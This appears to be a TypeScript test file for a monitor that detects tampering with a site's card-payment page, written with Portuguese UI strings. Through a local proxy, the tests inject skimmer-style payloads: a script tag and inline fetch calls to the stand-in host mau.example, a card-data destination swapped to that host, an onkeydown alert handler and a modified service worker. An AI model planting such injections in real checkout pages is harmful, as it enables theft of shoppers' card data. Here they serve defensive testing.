import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { beforeEach, expect, test } from 'vitest'
import { readSiteStatus, type SiteStatusLine } from '#contract/site-status.ts'
import { paymentPageCheck } from '#server/monitoring/last-payment-page.ts'
import { runQueued } from '#server/platform/jobs/worker.ts'
import { schedule } from '#server/schedule.ts'
import { tasks } from '#server/tasks.ts'
import { atEnd } from '../world/at-end.ts'
import { operatorAtWork } from '../world/back-office.ts'
import { openMailbox } from '../world/mailbox.ts'
import { bootSite } from '../world/site.ts'

type Answer = { status: number; headers: Record<string, string>; body: string }
type Change = (answer: Answer, path: string) => void

const unchanged: Change = () => {}
let change = unchanged
const proxy = createServer(async (asked, reply) => {
  const path = asked.url as string
  const response = await fetch(site.url + path, { redirect: 'manual' })
  const { 'content-encoding': _, 'content-length': __, ...headers } = Object.fromEntries(response.headers)
  const answer = { status: response.status, headers, body: await response.text() }
  change(answer, path)
  reply.writeHead(answer.status, { ...answer.headers, via: '1.1 proxy' }).end(answer.body)
})
proxy.listen(0, '127.0.0.1')
await once(proxy, 'listening')
atEnd(() => void proxy.close())

const publicUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`
const paymentsUrl = 'https://pagamentos.teste.local'
const mailbox = await openMailbox()
const site = await bootSite({ variables: { PUBLIC_URL: publicUrl, PAYMENTS_URL: paymentsUrl, SMTP_URL: mailbox.url } })
const { office } = await operatorAtWork(site)

beforeEach(() => {
  change = unchanged
})

const job = schedule.find(({ name }) => name === 'check-payment-page')

async function check() {
  await job?.run(site.app)
  const lines: SiteStatusLine[] = (await office.send('GET', readSiteStatus.path)).json().lines
  const { facts } = site.log.findLast(({ event }) => event.startsWith('payment_page_')) ?? {}
  return { line: lines.find(({ name }) => name === 'Página do cartão'), changes: facts?.changes as string[] }
}

const onPage =
  (alter: (answer: Answer) => void): Change =>
  (answer, path) => {
    if (path === '/payment-card') alter(answer)
  }

test('a payment page that arrives as it was sent raises no alarm', async () => {
  const { line, changes } = await check()
  expect(changes).toEqual([])
  expect(line).toMatchObject({ value: expect.stringMatching(/^Tudo certo em /), action: null })
  expect(await doctor()).toEqual(['ok'])
})

const doctor = async () => {
  const found = await paymentPageCheck.examine({ app: site.app, database: site.app.db, mailTo: undefined })
  return found.map(({ level }) => level)
}

test.each<[string, Change, string | RegExp]>([
  [
    'a policy that allows another origin',
    onPage(({ headers }) => {
      headers['content-security-policy'] += ' https://mau.example'
    }),
    'header content-security-policy',
  ],
  ['a removed header', onPage(({ headers }) => delete headers['x-frame-options']), 'header x-frame-options'],
  [
    'an added header that loads a script',
    onPage(({ headers }) => {
      headers.link = '<https://mau.example/x.js>; rel=preload; as=script'
    }),
    'header link',
  ],
  [
    'an added script',
    onPage(answer => {
      answer.body = answer.body.replace('</head>', '<script src="https://mau.example/x.js"></script></head>')
    }),
    'added <script src="https://mau.example/x.js">',
  ],
  [
    'a changed inline script',
    onPage(answer => {
      answer.body = answer.body.replace('<script>', '<script>fetch("https://mau.example");')
    }),
    'text of the page or of an inline script',
  ],
  [
    'an event handler',
    onPage(answer => {
      answer.body = answer.body.replace('<body>', '<body onkeydown="alert(1)">')
    }),
    'added <body onkeydown="alert(1)">',
  ],
  [
    'another target for the card data',
    onPage(answer => {
      answer.body = answer.body.replace(paymentsUrl, 'https://mau.example')
    }),
    'added <meta name="payments-url" content="https://mau.example">',
  ],
  [
    'a redirect to another page',
    onPage(answer => {
      answer.status = 302
      answer.headers.location = 'https://mau.example'
    }),
    'status 302',
  ],
  [
    'changed bytes of a script',
    (answer, path) => {
      if (path.startsWith('/assets/payment-card-screen')) answer.body += ';fetch("https://mau.example")'
    },
    /^script \/assets\/payment-card-screen/,
  ],
  [
    'a changed service worker',
    (answer, path) => {
      if (path === '/service-worker.js') answer.body = `importScripts('x.js');${answer.body}`
    },
    'script /service-worker.js',
  ],
])('%s raises an alarm', async (_, made, expected) => {
  change = made
  const { line, changes } = await check()
  expect(changes).toContainEqual(typeof expected === 'string' ? expected : expect.stringMatching(expected))
  expect(line?.value).toContain('Não chega ao navegador como foi enviada')
  expect(line?.action).toContain('trate como incidente')
  expect(await doctor()).toEqual(['erro'])
})

test('administrators get one mail a day about a changed page, and the next good check ends the alarm', async () => {
  change = onPage(({ headers }) => delete headers['referrer-policy'])
  await check()
  await check()
  await runQueued(site.app, tasks)
  expect(mailbox.mails.map(({ subject }) => subject)).toEqual(['A página do cartão chega diferente'])
  change = unchanged
  expect((await check()).line?.action).toBeNull()
})
